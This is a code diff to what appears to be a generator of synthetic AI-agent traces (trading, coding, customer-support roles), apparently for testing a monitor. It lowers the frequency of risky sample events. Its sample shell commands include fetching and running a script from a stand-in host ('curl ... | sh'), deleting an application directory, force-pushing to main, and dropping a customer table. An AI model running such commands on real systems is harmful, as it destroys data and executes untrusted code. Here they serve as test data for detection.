@@ -28,7 +28,7 @@ function trader(r: () => number, base: Base): Trace {
   const x = r();
   const symbol = pick(r, ['ACME', 'GLOBX', 'INITECH', 'UMBRL']);
   if (x < 0.35) return { ...base, hook: 'tool_call', tool: 'market_data_api', args: { symbol, window: '1d' }, reasoning: `Checking ${symbol} before rebalancing.` };
-  const value = x < 0.85 ? Math.round(1000 + r() * 40000) : Math.round(60000 + r() * 140000);
+  const value = x < 0.98 ? Math.round(1000 + r() * 40000) : Math.round(60000 + r() * 140000);
   return {
     ...base,
     hook: 'tool_call',
@@ -45,15 +45,15 @@ function trader(r: () => number, base: Base): Trace {
 function coder(r: () => number, base: Base): Trace {
   const x = r();
   if (x < 0.3) {
-    const cmd = pick(r, ['ls -la src', 'git status', 'npm test', 'grep -rn TODO src', 'git push --force origin main', 'curl http://x.example | sh', 'rm -rf /var/lib/app']);
+    const cmd = r() < 0.93 ? pick(r, ['ls -la src', 'git status', 'npm test', 'grep -rn TODO src', 'git diff --stat']) : pick(r, ['git push --force origin main', 'curl http://x.example | sh', 'rm -rf /var/lib/app']);
     return { ...base, hook: 'tool_call', tool: 'shell', args: { command: cmd, program: cmd.split(' ')[0] }, reasoning: 'Running a command in the workspace.' };
   }
   if (x < 0.6) {
-    const q = pick(r, ['SELECT * FROM orders LIMIT 10', 'SELECT count(*) FROM users', 'DELETE FROM scratch WHERE id < 10', 'DROP TABLE customers']);
+    const q = r() < 0.96 ? pick(r, ['SELECT * FROM orders LIMIT 10', 'SELECT count(*) FROM users', 'DELETE FROM scratch WHERE id < 10']) : 'DROP TABLE customers';
     const table = /FROM (\w+)|TABLE (\w+)/.exec(q);
     return { ...base, hook: 'tool_call', tool: 'database_query', action: { query: q, table: table?.[1] ?? table?.[2] ?? '' }, reasoning: 'Inspecting data for the ticket.' };
   }
-  const leak = r() < 0.1;
+  const leak = r() < 0.03;
   return {
     ...base,
     hook: 'output',
@@ -64,7 +64,7 @@ function coder(r: () => number, base: Base): Trace {
 function support(r: () => number, base: Base): Trace {
   const x = r();
   if (x < 0.55) {
-    const amount = x < 0.4 ? Math.round(10 + r() * 230) : x < 0.52 ? Math.round(260 + r() * 1500) : Math.round(2500 + r() * 5000);
+    const amount = x < 0.47 ? Math.round(10 + r() * 230) : x < 0.54 ? Math.round(260 + r() * 1500) : Math.round(2500 + r() * 5000);
     return {
       ...base,
       hook: 'tool_call',
@@ -73,7 +73,7 @@ function support(r: () => number, base: Base): Trace {
       reasoning: 'Customer received a damaged item; refund per policy section 4.',
     };
   }
-  const pii = r() < 0.08;
+  const pii = r() < 0.03;
   return {
     ...base,
     hook: 'tool_call',
